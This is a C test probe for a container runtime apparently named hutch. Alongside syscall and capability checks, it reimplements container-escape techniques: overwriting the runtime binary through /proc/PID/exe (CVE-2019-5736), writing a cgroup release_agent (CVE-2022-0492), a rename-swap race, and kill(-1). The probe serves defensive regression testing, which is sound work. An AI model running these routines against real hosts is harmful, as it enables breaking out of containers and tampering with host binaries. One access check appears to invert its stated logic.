/* hutch-probe: a small static program the system tests copy into a
 * container's root filesystem.  It makes raw system calls (through the
 * 64-bit entry, the 32-bit int $0x80 entry and with x32 numbers) and prints
 * what the kernel answered, one line per check, in a form a bats test can
 * compare: "keyctl: EPERM", "getpid: OK".
 *
 *   hutch-probe status                     Cap*, NoNewPrivs and Seccomp lines of /proc/self/status
 *   hutch-probe syscall [--abi A] NAME...  A = 64 (default), i386 or x32; NAME from the table below
 *   hutch-probe nr [--abi A] N             the raw system call number N with zero arguments
 *   hutch-probe list                       the NAMEs syscall knows
 *   hutch-probe fork | thread              fork and wait / create and join a thread
 *   hutch-probe stat PATH...               "PATH: char 1:3", "dir", "file", "symlink", or the errno
 *   hutch-probe read PATH                  "PATH: N bytes" (at most 1 MiB read) or the errno
 *   hutch-probe ls PATH                    "PATH: N entries" (without . and ..) or the errno
 *   hutch-probe write PATH                 opens for writing (no create) and writes one byte
 *   hutch-probe create PATH                creates a file (O_EXCL)
 *   hutch-probe mknod PATH                 makes a char device 1:3
 *   hutch-probe remount-rw PATH            mount(MS_REMOUNT|MS_BIND) without MS_RDONLY
 *   hutch-probe exec PATH [ARG...]         execve, printing the errno when it fails
 *   hutch-probe kill-all                   kill(-1, SIGKILL)
 *   hutch-probe keyrings                   the IDs of the session and user keyrings (without creating them)
 *   hutch-probe with-session PROG [ARG...] joins a new session keyring, then runs PROG (a host-side helper)
 *   hutch-probe exe-attack SECONDS [STOPFILE]  CVE-2019-5736: tries to write the binaries of hutch's processes
 *   hutch-probe swap A B SECONDS           renameat2(RENAME_EXCHANGE) of A and B without pause; "swaps: N"
 *   hutch-probe release-agent              CVE-2022-0492: a new user+mount+cgroup namespace, a cgroup v1
 *                                          mount, and a write to its release_agent
 *
 * Exit status 0 when every line was printed (whatever the kernel said), 2
 * for a usage error.  This is test code: it must stay tiny and depend on
 * nothing but libc. */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define X32_BIT 0x40000000L

enum abi { ABI_64, ABI_I386, ABI_X32 };

static const char *err_name(int e)
{
        const char *n = strerrorname_np(e);
        static char buf[32];

        if (n)
                return n;
        snprintf(buf, sizeof(buf), "E%d", e);
        return buf;
}

#if defined(__x86_64__)
/* The 32-bit entry point from 64-bit code: arguments in ebx, ecx, edx,
 * esi, edi; the kernel clobbers r8-r11.  Pointers must be below 4 GiB (the
 * probe is linked static and non-PIE, and uses static buffers). */
static long sys_i386(long nr, long a, long b, long c, long d, long e)
{
        long ret;

        __asm__ volatile("int $0x80"
                         : "=a"(ret)
                         : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
                         : "r8", "r9", "r10", "r11", "memory", "cc");
        return (long) (int) ret;
}
#endif

/* Returns the raw result or -errno. */
static long do_syscall(enum abi abi, long nr64, long nr32, long a, long b, long c, long d, long e)
{
        long r;

        switch (abi) {
        case ABI_64: r = syscall(nr64, a, b, c, d, e); return r < 0 ? -errno : r;
        case ABI_X32: r = syscall(nr64 | X32_BIT, a, b, c, d, e); return r < 0 ? -errno : r;
        case ABI_I386:
#if defined(__x86_64__)
                if (nr32 < 0)
                        return -ENOSYS;
                return sys_i386(nr32, a, b, c, d, e);
#else
                (void) nr32;
                return -ENOSYS;
#endif
        }
        return -EINVAL;
}

/* Static, so below 4 GiB for the i386 entry. */
static struct {
        uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
} clone3_args = { .exit_signal = SIGCHLD };

struct call {
        const char *name;
        long nr64, nr32, nrx32; /* nrx32 0: same as nr64 */
        long a, b, c, d, e;
        bool forks; /* a success means we are in a child that must exit */
};

/* Arguments are chosen so that, without a seccomp filter, the call either
 * works or fails with an error other than EPERM where the kernel allows. */
static const struct call calls[] = {
        { "getpid", SYS_getpid, 20, 0, 0, 0, 0, 0, 0, false },
        { "keyctl", SYS_keyctl, 288, 0, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0, 0, 0, false },
        { "add_key", SYS_add_key, 286, 0, 0, 0, 0, 0, 0, false },
        { "request_key", SYS_request_key, 287, 0, 0, 0, 0, 0, 0, false },
        { "bpf", SYS_bpf, 357, 0, 0, 0, 0, 0, 0, false },
        { "userfaultfd", SYS_userfaultfd, 374, 0, 1 /* UFFD_USER_MODE_ONLY */, 0, 0, 0, 0, false },
        { "perf_event_open", SYS_perf_event_open, 336, 0, 0, 0, -1, -1, 0, false },
        { "io_uring_setup", 425, 425, 0, 1, 0, 0, 0, 0, false },
        { "kexec_load", SYS_kexec_load, 283, 528, 0, 0, 0, 0, 0, false },
        { "kexec_file_load", 320, -1, 0, -1, -1, 0, 0, 0, false },
        { "init_module", SYS_init_module, 128, 0, 0, 0, 0, 0, 0, false },
        { "finit_module", SYS_finit_module, 350, 0, -1, 0, 0, 0, 0, false },
        { "delete_module", SYS_delete_module, 129, 0, 0, 0, 0, 0, 0, false },
        { "open_by_handle_at", SYS_open_by_handle_at, 342, 0, -1, 0, 0, 0, 0, false },
        { "personality-addr-no-randomize", SYS_personality, 136, 0, 0x0040000, 0, 0, 0, 0, false },
        { "personality-query", SYS_personality, 136, 0, 0xffffffff, 0, 0, 0, 0, false },
        { "unshare-user", SYS_unshare, 310, 0, 0x10000000, 0, 0, 0, 0, false },
        { "unshare-net", SYS_unshare, 310, 0, 0x40000000, 0, 0, 0, 0, false },
        { "unshare-files", SYS_unshare, 310, 0, 0x400, 0, 0, 0, 0, false },
        { "setns", SYS_setns, 346, 0, -1, 0, 0, 0, 0, false },
        { "clone-newuser", SYS_clone, 120, 0, 0x10000000 | SIGCHLD, 0, 0, 0, 0, true },
        { "clone-plain", SYS_clone, 120, 0, SIGCHLD, 0, 0, 0, 0, true },
        { "clone3", 435, 435, 0, 0 /* &clone3_args */, sizeof(clone3_args), 0, 0, 0, true },
        { "socket-alg", SYS_socket, 359, 0, 38, 5 /* SOCK_SEQPACKET */, 0, 0, 0, false },
        { "socket-vsock", SYS_socket, 359, 0, 40, 1 /* SOCK_STREAM */, 0, 0, 0, false },
        { "socket-unix", SYS_socket, 359, 0, 1, 1, 0, 0, 0, false },
        { "syslog", SYS_syslog, 103, 0, 10 /* SYSLOG_ACTION_SIZE_BUFFER */, 0, 0, 0, 0, false },
        { "mount", SYS_mount, 21, 0, 0, 0, 0, 0, 0, false },
        { "pivot_root", SYS_pivot_root, 217, 0, 0, 0, 0, 0, 0, false },
        { "reboot", SYS_reboot, 88, 0, 0, 0, 0, 0, 0, false },
        { "swapon", SYS_swapon, 87, 0, 0, 0, 0, 0, 0, false },
        { "acct", SYS_acct, 51, 0, 0, 0, 0, 0, 0, false },
};

static int print_result(const char *name, long r)
{
        if (r < 0)
                printf("%s: %s\n", name, err_name((int) -r));
        else
                printf("%s: OK\n", name);
        return 0;
}

static int run_call(enum abi abi, const struct call *c)
{
        long a = c->a, nr64 = c->nr64, r;

        if (abi == ABI_X32 && c->nrx32)
                nr64 = c->nrx32 & ~X32_BIT;
        if (strcmp(c->name, "clone3") == 0)
                a = (long) (uintptr_t) &clone3_args;
        fflush(stdout);
        r = do_syscall(abi, nr64, c->nr32, a, c->b, c->c, c->d, c->e);
        if (c->forks && r == 0)
                _exit(0); /* the child of a clone that worked */
        if (c->forks && r > 0)
                (void) waitpid((pid_t) r, NULL, 0);
        return print_result(c->name, r);
}

static int parse_abi(int *argc, char ***argv, enum abi *ret)
{
        *ret = ABI_64;
        if (*argc >= 2 && strcmp((*argv)[0], "--abi") == 0) {
                const char *a = (*argv)[1];
                if (strcmp(a, "64") == 0)
                        *ret = ABI_64;
                else if (strcmp(a, "i386") == 0)
                        *ret = ABI_I386;
                else if (strcmp(a, "x32") == 0)
                        *ret = ABI_X32;
                else
                        return -1;
                *argc -= 2;
                *argv += 2;
        }
        return 0;
}

static int cmd_syscall(int argc, char **argv)
{
        enum abi abi;

        if (parse_abi(&argc, &argv, &abi) < 0 || argc < 1)
                return 2;
        for (int i = 0; i < argc; i++) {
                const struct call *c = NULL;
                for (size_t j = 0; j < sizeof(calls) / sizeof(calls[0]); j++)
                        if (strcmp(calls[j].name, argv[i]) == 0)
                                c = &calls[j];
                if (!c) {
                        fprintf(stderr, "hutch-probe: unknown call '%s'\n", argv[i]);
                        return 2;
                }
                run_call(abi, c);
        }
        return 0;
}

static int cmd_nr(int argc, char **argv)
{
        enum abi abi;
        char *end;
        long nr;

        if (parse_abi(&argc, &argv, &abi) < 0 || argc != 1)
                return 2;
        nr = strtol(argv[0], &end, 0);
        if (*end || nr < 0)
                return 2;
        return print_result(argv[0], do_syscall(abi, nr, nr, 0, 0, 0, 0, 0));
}

static int cmd_status(void)
{
        static const char *const keys[] = { "CapInh:", "CapPrm:",     "CapEff:", "CapBnd:",
                                            "CapAmb:", "NoNewPrivs:", "Seccomp:" };
        char line[256];
        FILE *f = fopen("/proc/self/status", "re");

        if (!f) {
                printf("status: %s\n", err_name(errno));
                return 0;
        }
        while (fgets(line, sizeof(line), f))
                for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++)
                        if (strncmp(line, keys[i], strlen(keys[i])) == 0) {
                                char *v = line + strlen(keys[i]);
                                v += strspn(v, " \t");
                                printf("%s %s", keys[i], v);
                        }
        fclose(f);
        return 0;
}

static void *thread_fn(void *arg)
{
        return arg;
}

static int cmd_fork(void)
{
        int status = 0;
        pid_t pid = fork();

        if (pid == 0)
                _exit(7);
        if (pid < 0)
                return print_result("fork", -errno);
        if (waitpid(pid, &status, 0) < 0)
                return print_result("fork", -errno);
        return print_result("fork", WIFEXITED(status) && WEXITSTATUS(status) == 7 ? 0 : -ECHILD);
}

static int cmd_thread(void)
{
        pthread_t t;
        void *res = NULL;
        int r = pthread_create(&t, NULL, thread_fn, (void *) 42);

        if (r != 0)
                return print_result("thread", -r);
        r = pthread_join(t, &res);
        return print_result("thread", r != 0 ? -r : res == (void *) 42 ? 0 : -EIO);
}

static int cmd_stat(int argc, char **argv)
{
        for (int i = 0; i < argc; i++) {
                struct stat st;

                if (lstat(argv[i], &st) < 0)
                        printf("%s: %s\n", argv[i], err_name(errno));
                else if (S_ISCHR(st.st_mode))
                        printf("%s: char %u:%u\n", argv[i], major(st.st_rdev), minor(st.st_rdev));
                else if (S_ISBLK(st.st_mode))
                        printf("%s: block %u:%u\n", argv[i], major(st.st_rdev), minor(st.st_rdev));
                else if (S_ISDIR(st.st_mode))
                        printf("%s: dir\n", argv[i]);
                else if (S_ISLNK(st.st_mode))
                        printf("%s: symlink\n", argv[i]);
                else if (S_ISREG(st.st_mode))
                        printf("%s: file\n", argv[i]);
                else
                        printf("%s: other\n", argv[i]);
        }
        return 0;
}

static int cmd_read(const char *path)
{
        static char buf[1 << 20];
        size_t total = 0;
        int fd = open(path, O_RDONLY | O_CLOEXEC);

        if (fd < 0)
                return print_result(path, -errno);
        for (;;) {
                ssize_t n = read(fd, buf, sizeof(buf) - total);
                if (n < 0) {
                        int e = errno;
                        close(fd);
                        return print_result(path, -e);
                }
                if (n == 0 || (total += (size_t) n) >= sizeof(buf))
                        break;
        }
        close(fd);
        printf("%s: %zu bytes\n", path, total);
        return 0;
}

static int cmd_ls(const char *path)
{
        DIR *d = opendir(path);
        struct dirent *de;
        size_t n = 0;

        if (!d)
                return print_result(path, -errno);
        while ((de = readdir(d)))
                if (strcmp(de->d_name, ".") != 0 && strcmp(de->d_name, "..") != 0)
                        n++;
        closedir(d);
        printf("%s: %zu entries\n", path, n);
        return 0;
}

static int cmd_write(const char *path, int flags)
{
        int fd = open(path, O_WRONLY | O_CLOEXEC | flags, 0644);
        long r = 0;

        if (fd < 0)
                return print_result(path, -errno);
        if (write(fd, "1", 1) < 0)
                r = -errno;
        close(fd);
        return print_result(path, r);
}

static int cmd_keyrings(void)
{
        static const struct {
                const char *name;
                long spec;
        } rings[] = { { "session", -3 /* KEY_SPEC_SESSION_KEYRING */ }, { "user", -4 /* KEY_SPEC_USER_KEYRING */ } };

        for (size_t i = 0; i < sizeof(rings) / sizeof(rings[0]); i++) {
                long r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, rings[i].spec, 0);
                if (r < 0)
                        printf("%s: %s\n", rings[i].name, err_name(errno));
                else
                        printf("%s: %lx\n", rings[i].name, r);
        }
        return 0;
}

/* The racing container of CVE-2021-30465: swaps a directory and a symlink
 * as fast as it can while another container starts with mounts below it. */
static int cmd_swap(const char *a, const char *b, const char *secs)
{
        struct timespec now, end;
        unsigned long n = 0;

        if (atoi(secs) <= 0)
                return 2;
        clock_gettime(CLOCK_MONOTONIC, &end);
        end.tv_sec += atoi(secs);
        do {
                for (int i = 0; i < 1000; i++)
                        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
                                n++;
                        else if (n == 0)
                                return print_result("swap", -errno);
                clock_gettime(CLOCK_MONOTONIC, &now);
        } while (now.tv_sec < end.tv_sec);
        printf("swaps: %lu\n", n);
        return 0;
}

static long write_file(const char *path, const char *text)
{
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        long r = 0;

        if (fd < 0)
                return -errno;
        if (write(fd, text, strlen(text)) < 0)
                r = -errno;
        close(fd);
        return r;
}

/* The CVE-2022-0492 pattern: become root of a new user namespace, mount a
 * cgroup v1 hierarchy (a controller, else a named one) and write its
 * release_agent, which the kernel would run as host root. */
static int cmd_release_agent(void)
{
        static const char *const opts[] = { "rdma", "memory", "pids", "none,name=hutchprobe" };
        char map[64];
        uid_t uid = getuid();
        gid_t gid = getgid();
        long r = 0;

        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
                return print_result("unshare", -errno);
        print_result("unshare", 0);
        (void) write_file("/proc/self/setgroups", "deny");
        snprintf(map, sizeof(map), "0 %u 1", (unsigned) uid);
        r = write_file("/proc/self/uid_map", map);
        snprintf(map, sizeof(map), "0 %u 1", (unsigned) gid);
        if (r == 0)
                r = write_file("/proc/self/gid_map", map);
        print_result("maps", r);
        (void) mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
        if (mkdir("/tmp/cgv1", 0755) < 0 && errno != EEXIST)
                return print_result("mkdir", -errno);
        r = -ENOENT;
        for (size_t i = 0; i < sizeof(opts) / sizeof(opts[0]); i++) {
                r = mount("cgroup", "/tmp/cgv1", "cgroup", 0, opts[i]) < 0 ? -errno : 0;
                if (r == 0) {
                        printf("mount-cgroup1: OK %s\n", opts[i]);
                        break;
                }
        }
        if (r < 0)
                return print_result("mount-cgroup1", r);
        print_result("release_agent", write_file("/tmp/cgv1/release_agent", "/tmp/evil"));
        return 0;
}

/* ---- exe-attack: what a container does to rewrite the runtime's binary ----
 *
 * For SECONDS (or until STOPFILE exists) it scans /proc without pause for
 * processes of hutch (a comm, argv[0] or /proc/PID/exe naming hutch, or an
 * argv[0] of /proc/self/exe, as a `#!/proc/self/exe` script gives), stops
 * each one (SIGSTOP) while it tries, through /proc/PID/exe:
 *   - open O_WRONLY|O_APPEND, and a write;
 *   - open O_PATH, keeping the descriptor, and reopen it O_WRONLY through
 *     /proc/self/fd/N, at once and again on every pass (the runc exploit
 *     waits until no process runs the file, when ETXTBSY no longer holds);
 *   - a writable remount of the mount the file is on (works with
 *     CAP_SYS_ADMIN over that mount), then the reopen again;
 * and lets it go on (SIGCONT).  It also opens /proc/PID/mem (the check
 * ptrace attach makes, CVE-2016-9962) and /proc/PID/fd.  Each distinct
 * outcome is printed once:
 *   target comm=C argv0=A exe=LINK|ERRNO
 *   mem exe=LINK: OK|ERRNO|exec'd since   fd-dir exe=LINK: (the same)
 *   open-wronly exe=LINK: ERRNO | OK write: OK|ERRNO
 *   open-path exe=LINK: ERRNO | OK dev:ino=D:I
 *   reopen-wronly dev:ino=D:I: ERRNO | OK write: OK|ERRNO
 *   remount dev:ino=D:I MOUNTPOINT: OK|ERRNO
 * and last "summary: targets=N wrote=M" (M writes that succeeded). */

#define MAX_KEPT 64
#define MAX_SEEN 512

static struct {
        int fd;
        unsigned long long dev, ino;
        bool written; /* once is enough */
} kept[MAX_KEPT];
static size_t n_kept;
static char *printed[MAX_SEEN];
static size_t n_printed;
static unsigned long wrote;

__attribute__((format(printf, 1, 2))) static void say_once(const char *fmt, ...)
{
        char line[512];
        va_list ap;

        va_start(ap, fmt);
        vsnprintf(line, sizeof(line), fmt, ap);
        va_end(ap);
        for (size_t i = 0; i < n_printed; i++)
                if (strcmp(printed[i], line) == 0)
                        return;
        if (n_printed < MAX_SEEN)
                printed[n_printed++] = strdup(line);
        printf("%s\n", line);
}

static void read_small(const char *path, char *buf, size_t size)
{
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t n = fd < 0 ? -1 : read(fd, buf, size - 1);

        if (fd >= 0)
                close(fd);
        buf[n > 0 ? n : 0] = '\0';
        buf[strcspn(buf, "\n")] = '\0'; /* comm's newline; cmdline stops at its first NUL anyway */
}

/* Opens path O_WRONLY|O_APPEND and writes a line; "OK write: OK" or the errno. */
static const char *try_write(const char *path, char *res, size_t size)
{
        static const char mark[] = "\nhutch-probe was here\n";
        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);

        if (fd < 0) {
                snprintf(res, size, "%s", err_name(errno));
                return res;
        }
        if (write(fd, mark, sizeof(mark) - 1) == (ssize_t) sizeof(mark) - 1) {
                wrote++;
                snprintf(res, size, "OK write: OK");
        } else {
                snprintf(res, size, "OK write: %s", err_name(errno));
        }
        close(fd);
        return res;
}

static void reopen_kept(size_t i)
{
        char p[64], res[64];

        if (kept[i].written)
                return;
        snprintf(p, sizeof(p), "/proc/self/fd/%d", kept[i].fd);
        unsigned long before = wrote;
        say_once("reopen-wronly dev:ino=%llu:%llu: %s", kept[i].dev, kept[i].ino, try_write(p, res, sizeof(res)));
        kept[i].written = wrote > before;
}

/* The mount point of the mount fd is on, from fdinfo and mountinfo. */
static bool mount_point_of(int fd, char *mp, size_t size)
{
        char p[64], buf[4096], line[4096];
        unsigned mnt_id = 0;
        bool found = false;
        FILE *f;

        snprintf(p, sizeof(p), "/proc/self/fdinfo/%d", fd);
        if ((f = fopen(p, "re")) == NULL)
                return false;
        while (fgets(buf, sizeof(buf), f))
                if (sscanf(buf, "mnt_id: %u", &mnt_id) == 1)
                        break;
        fclose(f);
        if ((f = fopen("/proc/self/mountinfo", "re")) == NULL)
                return false;
        while (!found && fgets(line, sizeof(line), f)) {
                unsigned id;
                char point[4096];
                if (sscanf(line, "%u %*u %*s %*s %4095s", &id, point) == 2 && id == mnt_id) {
                        /* undo the octal escapes (\040 for a space) */
                        size_t o = 0;
                        for (const char *c = point; *c && o + 1 < size; c++) {
                                if (c[0] == '\\' && c[1] && c[2] && c[3]) {
                                        mp[o++] = (char) (((c[1] - '0') << 6) | ((c[2] - '0') << 3) | (c[3] - '0'));
                                        c += 3;
                                } else {
                                        mp[o++] = *c;
                                }
                        }
                        mp[o] = '\0';
                        found = true;
                }
        }
        fclose(f);
        return found;
}

static void try_remount(size_t i)
{
        struct statvfs vfs;
        char mp[4096];
        unsigned long flags = MS_REMOUNT | MS_BIND;

        if (!mount_point_of(kept[i].fd, mp, sizeof(mp))) {
                say_once("remount dev:ino=%llu:%llu: mount not in this namespace", kept[i].dev, kept[i].ino);
                return;
        }
        /* keep the flags a remount may not drop, lift only read-only */
        if (statvfs(mp, &vfs) == 0) {
                flags |= (vfs.f_flag & ST_NOSUID ? MS_NOSUID : 0) | (vfs.f_flag & ST_NODEV ? MS_NODEV : 0) |
                         (vfs.f_flag & ST_NOEXEC ? MS_NOEXEC : 0) | (vfs.f_flag & ST_NOATIME ? MS_NOATIME : 0) |
                         (vfs.f_flag & ST_NODIRATIME ? MS_NODIRATIME : 0) |
                         (vfs.f_flag & ST_RELATIME ? MS_RELATIME : 0);
        }
        int r = mount(NULL, mp, NULL, flags, NULL);
        say_once("remount dev:ino=%llu:%llu %s: %s", kept[i].dev, kept[i].ino, mp, r < 0 ? err_name(errno) : "OK");
        if (r == 0)
                reopen_kept(i);
}

/* What an access to a process that was not dumpable proves: "OK" only
 * while it still is (its exe link unreadable); a process that exec'd in
 * between (a #!/proc/self/exe hutch, now the container's own) is another
 * program, reported as such. */
static const char *access_result(pid_t pid, const char *link, bool ok)
{
        char p[64], now[256];

        if (!ok)
                return err_name(errno);
        if (!strcmp(link, "EACCES") == 0)
                return "OK";
        snprintf(p, sizeof(p), "/proc/%d/exe", (int) pid);
        if (readlink(p, now, sizeof(now) - 1) < 0 && errno == EACCES)
                return "OK";
        return "exec'd since";
}

static void attack(pid_t pid, const char *comm, const char *argv0, const char *link)
{
        char p[64], res[64];
        struct stat st;

        say_once("target comm=%s argv0=%s exe=%s", comm, argv0, link);
        /* CVE-2016-9962: /proc/PID/mem asks what ptrace attach does */
        snprintf(p, sizeof(p), "/proc/%d/mem", (int) pid);
        int mfd = open(p, O_RDONLY | O_CLOEXEC);
        say_once("mem exe=%s: %s", link, access_result(pid, link, mfd >= 0));
        if (mfd >= 0)
                close(mfd);
        snprintf(p, sizeof(p), "/proc/%d/fd", (int) pid);
        DIR *fds = opendir(p);
        say_once("fd-dir exe=%s: %s", link, access_result(pid, link, fds != NULL));
        if (fds)
                closedir(fds);
        snprintf(p, sizeof(p), "/proc/%d/exe", (int) pid);
        say_once("open-wronly exe=%s: %s", link, try_write(p, res, sizeof(res)));
        int fd = open(p, O_PATH | O_CLOEXEC);
        if (fd < 0) {
                say_once("open-path exe=%s: %s", link, err_name(errno));
                return;
        }
        if (fstat(fd, &st) < 0) {
                close(fd);
                return;
        }
        say_once("open-path exe=%s: OK dev:ino=%llu:%llu", link, (unsigned long long) st.st_dev,
                 (unsigned long long) st.st_ino);
        for (size_t i = 0; i < n_kept; i++)
                if (kept[i].dev == st.st_dev && kept[i].ino == st.st_ino) {
                        close(fd);
                        reopen_kept(i);
                        return;
                }
        if (n_kept == MAX_KEPT) {
                close(fd);
                return;
        }
        kept[n_kept].fd = fd;
        kept[n_kept].dev = st.st_dev;
        kept[n_kept].ino = st.st_ino;
        kept[n_kept].written = false;
        n_kept++;
        reopen_kept(n_kept - 1);
        try_remount(n_kept - 1);
}

static bool is_target(const char *comm, const char *argv0, const char *link)
{
        const char *base = strrchr(argv0, '/') ? strrchr(argv0, '/') + 1 : argv0;

        if (strncmp(comm, "hutch-probe", 11) == 0 || strncmp(base, "hutch-probe", 11) == 0)
                return false;
        return strstr(comm, "hutch") || strstr(base, "hutch") || strcmp(argv0, "/proc/self/exe") == 0 ||
               (strstr(link, "hutch") && !strstr(link, "hutch-probe"));
}

static int cmd_exe_attack(int argc, char **argv)
{
        struct {
                pid_t pid;
                char link[256];
        } done[MAX_SEEN];
        size_t n_done = 0;
        unsigned long targets = 0;
        struct timespec now, end;
        char *stop = argc > 1 ? argv[1] : NULL;

        if (argc < 1 || argc > 2 || atoi(argv[0]) <= 0)
                return 2;
        clock_gettime(CLOCK_MONOTONIC, &end);
        end.tv_sec += atoi(argv[0]);
        for (;;) {
                DIR *d = opendir("/proc");
                struct dirent *de;

                while (d && (de = readdir(d))) {
                        pid_t pid = (pid_t) atoi(de->d_name);
                        char path[64], comm[64], argv0[256], link[256];
                        ssize_t n;
                        bool seen = false;

                        if (pid <= 0 || pid == getpid())
                                continue;
                        snprintf(path, sizeof(path), "/proc/%d/comm", (int) pid);
                        read_small(path, comm, sizeof(comm));
                        snprintf(path, sizeof(path), "/proc/%d/cmdline", (int) pid);
                        read_small(path, argv0, sizeof(argv0));
                        snprintf(path, sizeof(path), "/proc/%d/exe", (int) pid);
                        n = readlink(path, link, sizeof(link) - 1);
                        if (n < 0)
                                snprintf(link, sizeof(link), "%s", err_name(errno));
                        else
                                link[n] = '\0';
                        if (!is_target(comm, argv0, link))
                                continue;
                        for (size_t i = 0; i < n_done && !seen; i++)
                                seen = done[i].pid == pid && strcmp(done[i].link, link) == 0;
                        if (seen)
                                continue;
                        if (n_done < MAX_SEEN) {
                                done[n_done].pid = pid;
                                snprintf(done[n_done].link, sizeof(done[n_done].link), "%s", link);
                                n_done++;
                        }
                        targets++;
                        (void) kill(pid, SIGSTOP);
                        attack(pid, comm, argv0, link);
                        (void) kill(pid, SIGCONT);
                }
                if (d)
                        closedir(d);
                for (size_t i = 0; i < n_kept; i++)
                        reopen_kept(i);
                clock_gettime(CLOCK_MONOTONIC, &now);
                if (now.tv_sec > end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec >= end.tv_nsec))
                        break;
                if (stop && access(stop, F_OK) == 0)
                        break;
        }
        printf("summary: targets=%lu wrote=%lu\n", targets, wrote);
        return 0;
}

int main(int argc, char **argv)
{
        const char *cmd;

        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc < 2)
                goto usage;
        cmd = argv[1];
        argc -= 2;
        argv += 2;
        if (strcmp(cmd, "status") == 0 || strcmp(cmd, "caps") == 0)
                return cmd_status();
        if (strcmp(cmd, "syscall") == 0)
                return cmd_syscall(argc, argv);
        if (strcmp(cmd, "nr") == 0)
                return cmd_nr(argc, argv);
        if (strcmp(cmd, "list") == 0) {
                for (size_t j = 0; j < sizeof(calls) / sizeof(calls[0]); j++)
                        puts(calls[j].name);
                return 0;
        }
        if (strcmp(cmd, "fork") == 0)
                return cmd_fork();
        if (strcmp(cmd, "thread") == 0)
                return cmd_thread();
        if (strcmp(cmd, "stat") == 0)
                return cmd_stat(argc, argv);
        if (strcmp(cmd, "read") == 0 && argc == 1)
                return cmd_read(argv[0]);
        if (strcmp(cmd, "ls") == 0 && argc == 1)
                return cmd_ls(argv[0]);
        if (strcmp(cmd, "write") == 0 && argc == 1)
                return cmd_write(argv[0], 0);
        if (strcmp(cmd, "create") == 0 && argc == 1)
                return cmd_write(argv[0], O_CREAT | O_EXCL);
        if (strcmp(cmd, "mknod") == 0 && argc == 1)
                return print_result("mknod", mknod(argv[0], S_IFCHR | 0666, makedev(1, 3)) < 0 ? -errno : 0);
        if (strcmp(cmd, "remount-rw") == 0 && argc == 1)
                return print_result("remount-rw",
                                    mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL) < 0 ? -errno : 0);
        if (strcmp(cmd, "exec") == 0 && argc >= 1) {
                execv(argv[0], argv);
                return print_result("exec", -errno);
        }
        if (strcmp(cmd, "keyrings") == 0)
                return cmd_keyrings();
        if (strcmp(cmd, "with-session") == 0 && argc >= 1) {
                if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "hutch-probe") < 0)
                        return print_result("with-session", -errno);
                execvp(argv[0], argv);
                return print_result("with-session", -errno);
        }
        if (strcmp(cmd, "swap") == 0 && argc == 3)
                return cmd_swap(argv[0], argv[1], argv[2]);
        if (strcmp(cmd, "release-agent") == 0)
                return cmd_release_agent();
        if (strcmp(cmd, "exe-attack") == 0)
                return cmd_exe_attack(argc, argv);
        if (strcmp(cmd, "kill-all") == 0)
                return print_result("kill-all", kill(-1, SIGKILL) < 0 ? -errno : 0);
usage:
        fprintf(stderr, "usage: hutch-probe status|syscall|nr|list|fork|thread|stat|read|ls|write|create|mknod|"
                        "remount-rw|exec|kill-all|keyrings|with-session|exe-attack|release-agent|swap ...\n");
        return 2;
}
